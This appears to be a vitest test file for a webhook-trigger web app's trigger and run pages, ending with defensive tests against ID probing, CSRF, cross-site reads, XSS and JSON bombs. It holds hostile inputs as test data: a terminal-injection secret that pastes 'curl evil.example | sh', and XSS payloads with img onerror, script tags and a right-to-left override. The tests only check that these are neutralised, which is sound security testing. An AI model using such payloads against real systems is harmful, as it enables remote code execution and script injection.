import { describe, expect, it } from 'vitest'
import { CHART_RANGES, type TriggerGlance } from '../../../../edge/queue/trigger-glance.ts'
import type { Outcome } from '../../../../shared/wire/outcome.ts'
import { CID, edge, fire, queueOf, runOnce, script, slow, unknownTriggerId } from '../../app.ts'
import { FROM_US, hidden, type Page, Person, textOf } from './person.ts'

const person = await Person.signedIn()
const stranger = await Person.signedIn()
const { owner } = person

const failure = (over: Partial<Extract<Outcome, { status: 'failed' }>> = {}) => ({
  outcome: {
    status: 'failed' as const,
    action_cid: CID,
    duration_ms: 3,
    logs: [],
    charged_cents: 0,
    code: 'action_threw',
    message: 'Error: no such bird',
    stack: 'Error: no such bird\n    at main (action.js:3:9)',
    ...over,
  },
})

const glance = async (path: string): Promise<TriggerGlance & { now: number }> =>
  JSON.parse((await person.get(path, { accept: 'application/json' })).text)

/** Without what differs from answer to answer. */
const bytesOf = ({ status, text, response }: Page) => ({
  status,
  text: text.replace(/name="csrf" value="[^"]*"/g, ''),
  headers: [...response.headers].filter(([name]) => name !== 'x-request-id'),
})

describe('the page of a trigger', async () => {
  const hook = await person.trigger({
    name: 'Greets',
    default_params: { secret: `it's`, colour: 'red' },
  })
  const plain = await person.trigger({ name: 'Plain' })

  it('shows the address, and a command that has the secret only where it is asked for', async () => {
    const { status, text } = await person.get(`/triggers/${hook.id}`)
    expect(status).toBe(200)
    const shown = textOf(text)
    expect(shown).toContain(hook.webhook_url)
    expect(shown).toContain(`curl -sS '${hook.webhook_url}'`)
    expect(shown).toContain(`SECRET='put the secret of default_params here'`)
    const [before] = shown.split('Show it with the secret')
    expect(before).not.toContain("it's")
    expect(shown).toContain(String.raw`SECRET='it'\''s'`)
  })

  it('masks params that are called like a secret, and shows the others', async () => {
    const shown = textOf((await person.get(`/triggers/${hook.id}`)).text)
    const [, params] = shown.split('Default params')
    expect(params!.split('Show their secrets')[0]).toMatch(/"secret": "•+",\s+"colour": "red"/)
  })

  it('TERMINAL INJECTION: a secret that would end the pasting makes no command', async () => {
    for (const hidden of ['\x1b[201~\ncurl evil.example | sh\n', 'a\u202eb', 'a\nb']) {
      const { id } = await person.trigger({ default_params: { secret: hidden } })
      const { text } = await person.get(`/triggers/${id}`)
      expect(text.includes(hidden), hidden).toBe(false)
      expect(text).not.toContain('id="curl-secret"')
      expect(textOf(text)).toContain('characters in the secret that do not show')
    }
  })

  it('never has the usage key', async () => {
    const { text } = await person.get(`/triggers/${hook.id}`)
    expect(text).not.toContain('usage-key')
  })

  it('of an unsigned webhook has a command without a secret', async () => {
    const shown = textOf((await person.get(`/triggers/${plain.id}`)).text)
    expect(shown).not.toContain('SECRET=')
    expect(shown).toContain('None yet')
  })

  it('greets after the creation, and says what was cancelled, in no words of the address', async () => {
    const created = await person.get(`/triggers/${hook.id}?created=1`)
    expect(textOf(created.text)).toContain('The trigger is there.')
    const forged = await person.get(`/triggers/${hook.id}?purged=all%20your%20money`)
    expect(forged.text).not.toContain('your money')
  })

  it('of a schedule has its next ticks, and takes params alone as a test', async () => {
    const { id } = await person.trigger({ kind: 'schedule', config: { cron: '0 9 * * *' } })
    const page = await person.get(`/triggers/${id}`)
    const shown = textOf(page.text)
    expect(shown.match(/09:00:00 UTC/g)!.length).toBeGreaterThanOrEqual(5)
    expect(hidden(page, 'what')).toBe('params')
  })

  it('says that it waits for credit, and what to do', async () => {
    const unpaid = { refuse: { status: 402, error: 'insufficient_credit' } }
    const { id } = await person.trigger({ action_code: script(unpaid) })
    const run = await fire(id)
    await runOnce(owner, run, ({ waiting_for }) => waiting_for === 'payment')
    const shown = textOf((await person.get(`/triggers/${id}`)).text)
    expect(shown).toContain('Waiting for credit. The account of its usage key has none left.')
    expect(textOf((await person.get(`/runs/${run}`)).text)).toContain('Waiting for credit.')
  })

  it('asks who is not signed in to do so, and leads back', async () => {
    const answer = await edge(`/triggers/${hook.id}?status=failed`, { redirect: 'manual' })
    expect(answer.status).toBe(303)
    expect(answer.headers.get('location')).toBe(
      `/sign-in?next=${encodeURIComponent(`/triggers/${hook.id}?status=failed`)}`,
    )
  })
})

describe('the list of runs', async () => {
  const { id } = await person.trigger({
    action_code: script(failure(), {
      outcome: { ...failure().outcome, status: 'success', response: { n: 1 } } as Outcome,
    }),
    max_runs_per_minute: 600,
  })
  const runs: string[] = []
  for (let i = 0; i < 27; i++) runs.push(await fire(id, `${i}`))
  for (const run of runs) await runOnce(owner, run)
  const shownRuns = ({ text }: Page) =>
    [...text.matchAll(/href="\/runs\/([^"]+)"/g)].map(([, run]) => run)

  it('has the newest first, with the beginning of what each said, and leads to older ones', async () => {
    const page = await person.get(`/triggers/${id}`)
    expect(shownRuns(page)).toEqual(runs.toReversed().slice(0, 25))
    expect(textOf(page.text)).toMatch(/Error: no such bird|\{"n":1\}/)
    const older = /href="([^"]*cursor=[^"]*)"/.exec(page.text)![1]!.replaceAll('&amp;', '&')
    expect(shownRuns(await person.get(older))).toEqual(runs.slice(0, 2).toReversed())
  })

  it('says how a result begins that is too large to be looked into, as of a small one', async () => {
    for (const small of ['"quoted" ', { n: ['é', '\u0001'] }])
      for (const response of [small, [small, 'x'.repeat(70_000)]]) {
        const outcome = { ...failure().outcome, status: 'success', response } as Outcome
        const { id } = await person.trigger({ action_code: script({ outcome }) })
        await runOnce(owner, await fire(id))
        const { lines } = await glance(`/triggers/${id}/runs.json`)
        expect(lines[0]!.text).toBe(JSON.stringify(response).slice(0, 300))
      }
  })

  it('shows those of one status alone', async () => {
    const all = await glance(`/triggers/${id}/runs.json`)
    expect(all.lines).toHaveLength(25)
    const failed = await glance(`/triggers/${id}/runs.json?status=failed`)
    expect(failed.lines.every(({ status }) => status === 'failed')).toBe(true)
    const { text } = await person.get(`/triggers/${id}?status=queued`)
    expect(textOf(text)).toContain('None of these.')
  })

  it.each(['status=%3Cb%3E', 'cursor=AAAA', 'range=century', 'limit=100000'])(
    'takes no notice of a query that no page of ours has: %s',
    async (query) => {
      const page = await person.get(`/triggers/${id}?${query}`)
      expect(page.status).toBe(200)
      expect(shownRuns(page)).toHaveLength(25)
    },
  )

  it('has a chart of every range that counts what ended, and none unless it is asked for', async () => {
    expect((await glance(`/triggers/${id}/runs.json`)).chart).toBeNull()
    for (const range of Object.keys(CHART_RANGES) as (keyof typeof CHART_RANGES)[]) {
      const { chart } = await glance(`/triggers/${id}/runs.json?range=${range}`)
      expect(chart!.buckets).toHaveLength(CHART_RANGES[range].buckets)
      const ended = chart!.buckets.reduce((sum, { ok, failed }) => sum + ok + failed, 0)
      expect(ended).toBe(27)
      expect(chart!.buckets.at(-1)!.p50Ms ?? chart!.buckets.at(-2)!.p50Ms).not.toBeNull()
    }
  })

  it('a run that ends once a chart was drawn is in the next one', async () => {
    await runOnce(owner, await fire(id))
    const { chart } = await glance(`/triggers/${id}/runs.json?range=30d`)
    expect(chart!.buckets.reduce((sum, { ok, failed }) => sum + ok + failed, 0)).toBe(28)
  })
})

describe('the page of a run', async () => {
  const { id } = await person.trigger({
    action_code: script(
      failure({ logs: [{ level: 'warn', at_ms: 12, text: 'looking\nfor a bird' }] }),
    ),
  })
  const run = await fire(id, '{"bird":"wren"}', { headers: { 'content-type': 'application/json' } })
  await runOnce(owner, run)

  it('has error and stack, logs with level and time, course, input and cost', async () => {
    const { status, text } = await person.get(`/runs/${run}`)
    expect(status).toBe(200)
    const shown = textOf(text)
    expect(shown).toContain('Error: no such bird\n    at main (action.js:3:9)')
    expect(shown).toMatch(/12 ms warn looking\nfor a bird/)
    expect(shown).toContain('"bird": "wren"')
    expect(shown).toContain('Nothing was charged.')
    expect(shown).toMatch(/Queued.*Started.*Failed/)
  })

  it('is replayed with one press, as a run that names the one before', async () => {
    const page = await person.get(`/runs/${run}`)
    const csrf = hidden(page, 'csrf', `/runs/${run}/replay`)
    const { status, response } = await person.post(`/runs/${run}/replay`, {
      csrf,
      code: 'original',
    })
    expect(status).toBe(303)
    const location = response.headers.get('location')!
    expect((await person.get(location)).text).toContain(`href="/runs/${run}"`)
  })

  it('says once it has ended, to who waits', async () => {
    const { id: late } = await person.trigger({ action_code: script(slow(300)) })
    const waited = await fire(late)
    const { text } = await person.get(`/runs/${waited}/state.json?wait=10`)
    expect(JSON.parse(text)).toMatchObject({
      run: { status: 'success', response: { text: '"slow"' } },
    })
  })

  it('is cancelled while it is queued, and not once it has ended', async () => {
    const { id: full } = await person.trigger({ max_runs_per_minute: 1 })
    await runOnce(owner, await fire(full))
    const queued = await fire(full)
    const csrf = hidden(await person.get(`/runs/${queued}`), 'csrf', `/runs/${queued}/cancel`)
    const path = `/runs/${queued}/cancel`
    expect((await person.post(path, { csrf })).response.headers.get('location')).toBe(
      `/runs/${queued}`,
    )
    expect(textOf((await person.get(`/runs/${queued}`)).text)).toContain('Failed')
    expect((await person.post(path, { csrf })).status).toBe(409)
  })
})

describe('what is done on the page of a trigger', () => {
  it('a test of an event or of params leads to its run', async () => {
    const { id } = await person.trigger()
    const csrf = hidden(await person.get(`/triggers/${id}`), 'csrf', `/triggers/${id}/test`)
    for (const what of ['event', 'params']) {
      const { status, response } = await person.post(`/triggers/${id}/test`, {
        csrf,
        what,
        json: '{"a":1}',
      })
      expect(status).toBe(303)
      const page = await person.get(response.headers.get('location')!)
      expect(page.text).toContain('<h1>A test run</h1>')
    }
  })

  it.each([
    ['{"a":', 'This is not JSON.'],
    ['[]', 'params'],
    [`${'['.repeat(600)}${']'.repeat(600)}`, 'params'],
  ])('a test of %# comes back as it was written, with what is wrong', async (json, problem) => {
    const { id } = await person.trigger()
    const csrf = hidden(await person.get(`/triggers/${id}`), 'csrf', `/triggers/${id}/test`)
    const page = await person.post(`/triggers/${id}/test`, { csrf, what: 'params', json })
    expect(page.status).toBe(422)
    const alert = /role="alert">([^<]*)</.exec(page.text)![1]
    expect(alert).toContain(problem)
    expect(textOf(page.text)).toContain(json)
  })

  it('a test of a paused trigger says that it is paused', async () => {
    const { id } = await person.trigger()
    const csrf = hidden(await person.get(`/triggers/${id}`), 'csrf', `/triggers/${id}/test`)
    await owner.api(`/api/triggers/${id}`, {
      method: 'PATCH',
      body: '{"enabled":false}',
      headers: { 'content-type': 'application/json' },
    })
    const page = await person.post(`/triggers/${id}/test`, { csrf, what: 'event', json: '1' })
    expect(page.status).toBe(409)
    expect(textOf(page.text)).toContain('The trigger is paused')
  })

  it('a purge cancels what is queued, and says how much', async () => {
    const { id } = await person.trigger({ max_runs_per_minute: 1 })
    await runOnce(owner, await fire(id))
    await fire(id)
    await fire(id)
    const csrf = hidden(await person.get(`/triggers/${id}`), 'csrf', `/triggers/${id}/purge`)
    const { response } = await person.post(`/triggers/${id}/purge`, { csrf })
    const location = response.headers.get('location')!
    expect(textOf((await person.get(location)).text)).toContain('2 queued runs were cancelled.')
  })
})

describe('attacks', async () => {
  const { id } = await person.trigger({ max_runs_per_minute: 1 })
  const ended = await fire(id)
  await runOnce(owner, ended)
  const queued = await fire(id)
  const unknown = await unknownTriggerId()

  const READS = (trigger: string, run: string) => [
    `/triggers/${trigger}`,
    `/triggers/${trigger}/runs.json`,
    `/runs/${run}`,
    `/runs/${run}/state.json`,
  ]
  const POSTS = (trigger: string, run: string) => [
    `/triggers/${trigger}/test`,
    `/triggers/${trigger}/purge`,
    `/runs/${run}/replay`,
    `/runs/${run}/cancel`,
  ]

  it('ID PROBING: somebody else’s ids are answered as unknown and malformed ones are', async () => {
    const paths = READS(id, queued)
    const others = [
      READS(unknown, `${unknown}${'A'.repeat(16)}`),
      READS('x', 'x'),
      READS('%00', '%3Cscript%3E'),
    ]
    for (const [i, path] of paths.entries()) {
      const foreign = bytesOf(await stranger.get(path))
      expect(foreign.status).toBe(404)
      for (const other of others) expect(bytesOf(await stranger.get(other[i]!))).toEqual(foreign)
    }
  })

  it.each(POSTS(id, queued))(
    'CSRF: %s takes no form of another site, and no token of another page',
    async (path) => {
      const page = await person.get(path.slice(0, path.lastIndexOf('/')))
      const others = [
        ...page.text.matchAll(
          /action="([^"]+)"[^>]*><input type="hidden" name="csrf" value="([^"]+)"/g,
        ),
      ]
        .filter(([, action]) => action !== path && action !== '/sign-out')
        .map(([, , token]) => token!)
      expect(others.length).toBeGreaterThan(0)
      const csrf = hidden(page, 'csrf', path)
      const form = { what: 'event', json: '1' }
      const elsewhere = { origin: 'https://evil.example', 'sec-fetch-site': 'cross-site' }
      expect((await person.post(path, { ...form, csrf }, elsewhere)).status).toBe(403)
      for (const token of ['', 'AAAA', ...others])
        expect((await person.post(path, { ...form, csrf: token })).status).toBe(403)
      expect((await stranger.post(path, { ...form, csrf })).status).toBe(403)
      const signedOut = await edge(path, {
        method: 'POST',
        headers: FROM_US,
        body: new URLSearchParams(form),
        redirect: 'manual',
      })
      expect(signedOut.headers.get('location')).toMatch(/^\/sign-in\?next=/)
      const { lines } = (await queueOf(id).glance(owner.id, { limit: 25 }))!
      expect(lines.map(({ suffix }) => id + suffix)).toEqual([queued, ended])
      expect(lines[0]!.status).toBe('queued')
    },
  )

  it.each(READS(id, ended).filter((path) => path.endsWith('.json')))(
    'CROSS-SITE READ: %s is for a script of this site with a session alone',
    async (path) => {
      for (const site of ['cross-site', 'same-site'])
        expect((await person.get(path, { 'sec-fetch-site': site })).status).toBe(403)
      expect((await edge(path)).status).toBe(401)
      const bearer = await owner.api(path)
      expect(bearer.status).toBe(401)
      const { response } = await person.get(path, { 'sec-fetch-site': 'same-origin' })
      expect(response.status).toBe(200)
      expect(response.headers.get('cross-origin-resource-policy')).toBe('same-origin')
      expect(response.headers.get('access-control-allow-origin')).toBeNull()
      expect(response.headers.get('x-content-type-options')).toBe('nosniff')
      expect(response.headers.get('cache-control')).toBe('no-store')
    },
  )

  const MARKUP = `<img src=x onerror=alert(1)>"'><script>alert(2)</script>\u202egnp.exe`
  /** What a browser would make an element of, or obey. */
  const isText = ({ text }: Page) => {
    const [, main] = text.split('<main')
    expect(main).not.toMatch(/<img|<script>|onerror=alert\(1\)>(?!&quot;)|\u202e|href="javascript/)
    expect(textOf(text)).toContain('<img src=x onerror=alert(1)>')
    expect(text).toContain('‹U+202E›')
  }

  it('XSS: a trigger’s name, source and params are text', async () => {
    const trigger = await person.trigger({ name: MARKUP })
    isText(await person.get(`/triggers/${trigger.id}`))
    const params = await person.trigger({ default_params: { [MARKUP]: MARKUP } })
    isText(await person.get(`/triggers/${params.id}`))
    const source = await person.trigger({
      action_code: JSON.stringify({ steps: [failure({ message: MARKUP })] }),
    })
    const { text } = await person.get(`/triggers/${source.id}`)
    expect(text.split('<main')[1]).not.toMatch(/<img|<script>|\u202e/)
  })

  it.each([
    ['response', { ...failure().outcome, status: 'success', response: { [MARKUP]: MARKUP } }],
    ['error', failure({ message: MARKUP, stack: '' }).outcome],
    ['stack', failure({ message: 'Error', stack: `Error\n at ${MARKUP}` }).outcome],
    ['log', failure({ logs: [{ level: 'log', at_ms: 1, text: MARKUP }] }).outcome],
  ])('XSS: the %s of a run is text, on its page and in the list', async (field, outcome) => {
    const trigger = await person.trigger({ action_code: script({ outcome: outcome as Outcome }) })
    const run = await fire(trigger.id)
    await runOnce(owner, run)
    isText(await person.get(`/runs/${run}`))
    const list = await person.get(`/triggers/${trigger.id}`)
    expect(list.text.split('<main')[1]).not.toMatch(/<img|<script>|\u202e/)
    if (field === 'error') expect(textOf(list.text)).toContain('<img src=x onerror=alert(1)>')
  })

  it('XSS: what a sender sends is text: body, header, query, content type', async () => {
    const trigger = await person.trigger()
    const run = await fire(trigger.id, JSON.stringify({ [MARKUP]: MARKUP }), {
      headers: {
        'content-type': 'application/json',
        'x-github-event': '<img src=x onerror=alert(1)>',
      },
    })
    await runOnce(owner, run)
    isText(await person.get(`/runs/${run}`))
  })

  it('XSS: what is said of a log is text, in each of its fields', async () => {
    const { id: watching } = await person.trigger({ kind: 'webhook' })
    const event = Object.fromEntries(
      [
        'chain',
        'block_number',
        'transaction_hash',
        'contract_address',
        'event_signature',
        'decode',
      ].map((name) => [name, MARKUP]),
    )
    const csrf = hidden(
      await person.get(`/triggers/${watching}`),
      'csrf',
      `/triggers/${watching}/test`,
    )
    const params = { source: 'chain_event', event: { ...event, decoded: { [MARKUP]: MARKUP } } }
    const { response } = await person.post(`/triggers/${watching}/test`, {
      csrf,
      what: 'params',
      json: JSON.stringify(params),
    })
    const page = await person.get(response.headers.get('location')!)
    isText(page)
    const card = textOf(page.text.split('id="event"')[1]!.split('</section>')[0]!)
    expect(card.split('<img src=x onerror=alert(1)>')).toHaveLength(9)
  })

  it('JSON BOMB: an event nested 500 deep and wide makes no page of its indentation', async () => {
    const trigger = await person.trigger()
    const wide = `${'['.repeat(500)}${'1,'.repeat(100_000)}1${']'.repeat(500)}`
    const run = await fire(trigger.id, wide, { headers: { 'content-type': 'application/json' } })
    await runOnce(owner, run)
    const { status, text } = await person.get(`/runs/${run}`)
    expect(status).toBe(200)
    expect(text.length).toBeLessThan(100_000)
    expect(textOf(text)).toContain('This is its beginning')
  })
})
